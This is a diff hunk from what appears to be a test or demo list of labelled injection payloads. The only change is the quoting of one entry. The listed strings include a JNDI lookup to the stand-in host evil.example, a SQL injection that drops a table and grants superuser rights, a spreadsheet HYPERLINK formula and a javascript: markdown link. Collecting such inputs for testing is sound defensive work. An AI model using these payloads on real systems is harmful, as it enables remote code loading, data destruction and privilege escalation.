@@ -100,7 +100,7 @@ _SHOWS = [
     ("lookup", "Fetch a class while logging.", "${jndi:ldap://evil.example/a}"),
     ("statement", "End the statement and begin another.",
      "x'); DROP TABLE predictions_prediction; UPDATE auth_user SET is_superuser=1; --"),
-    ("formula", "Be a formula when they open the table.", "=HYPERLINK(\"//evil.example\",A1)"),
+    ("formula", "Be a formula when they open the table.", '=HYPERLINK("//evil.example",A1)'),
     ("markdown", "Link them somewhere.",
      "[your winnings](javascript:alert(1)) ![](//evil.example)"),
     ("log lines", "Forge a line of the log.",
